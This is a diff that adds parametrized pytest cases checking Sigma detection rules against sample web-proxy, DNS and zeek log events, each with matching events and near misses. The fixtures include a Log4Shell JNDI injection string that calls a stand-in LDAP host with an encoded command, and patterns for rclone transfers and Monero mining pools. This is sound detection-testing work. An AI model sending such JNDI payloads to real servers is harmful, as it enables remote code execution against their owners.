@@ -22,6 +22,7 @@ from pathlib import Path
 from typing import Any
 
 import polars as pl
+import pytest
 from sigma.conditions import (
     ConditionAND,
     ConditionIdentifier,
@@ -376,3 +377,69 @@ def test_all_rules_together_find_what_each_finds_alone(shared_data: Path) -> Non
     }
     assert together == alone
     assert len(together) > 200
+
+
+# Hand-written cases: (rule file, dataset, events that match, near misses that do not).
+HAND_CASES = [
+    (
+        "web/webserver_generic/web_jndi_exploit.yml",
+        "nginx.access",
+        [{"event.original": 'GET /x/${jndi:ldap://e/Basic/Command/Base64/aWQ=} HTTP/1.1" 404'}],
+        [{"event.original": 'GET /x/${jndi:ldap://e/Basic/Command/Base32/aWQ=} HTTP/1.1" 404'}],
+    ),
+    (
+        "web/proxy_generic/proxy_ua_rclone.yml",
+        "squid.access",
+        [{"user_agent.original": "rclone/v1.66.0"}, {"user_agent.original": "RCLONE/V1"}],
+        [{"user_agent.original": "my rclone/v1.66.0"}, {"user_agent.original": "rclone/1"}],
+    ),
+    (
+        "network/dns/net_dns_pua_cryptocoin_mining_xmr.yml",
+        "zeek.dns",
+        [{"dns.question.name": "eu.pool.minexmr.com"}, {"dns.question.name": "XMRPOOL.EU"}],
+        [{"dns.question.name": "pool.minexmr.co"}, {"dns.question.name": "minexmr.com"}],
+    ),
+    (
+        "network/zeek/zeek_http_webdav_put_request.yml",
+        "zeek.http",
+        [
+            {
+                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
+                "http.request.method": "PUT",
+                "destination.ip": "203.0.113.7",
+            }
+        ],
+        [
+            {
+                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
+                "http.request.method": "PUT",
+                "destination.ip": "10.1.2.3",
+            },
+            {
+                "user_agent.original": "Microsoft-WebDAV-MiniRedir/10.0",
+                "http.request.method": "GET",
+                "destination.ip": "203.0.113.7",
+            },
+        ],
+    ),
+    (
+        "web/proxy_generic/proxy_download_susp_tlds_blacklist.yml",
+        "squid.access",
+        [{"url.path": "/payload.EXE", "url.domain": "cdn.example.country"}],
+        [
+            {"url.path": "/payload.EXE", "url.domain": "cdn.example.com"},
+            {"url.path": "/payload.exe.txt", "url.domain": "cdn.example.country"},
+        ],
+    ),
+]
+
+
+@pytest.mark.parametrize(
+    ("path", "dataset", "hits", "misses"), HAND_CASES, ids=[Path(c[0]).stem for c in HAND_CASES]
+)
+def test_hand_written_cases(
+    shared_data: Path, path: str, dataset: str, hits: list[Event], misses: list[Event]
+) -> None:
+    rules = load_ruleset([shared_data / "sigma" / "rules" / path])
+    found = rules.evaluate(_frame(hits + misses, dataset)).get_column("row").to_list()
+    assert found == list(range(len(hits)))
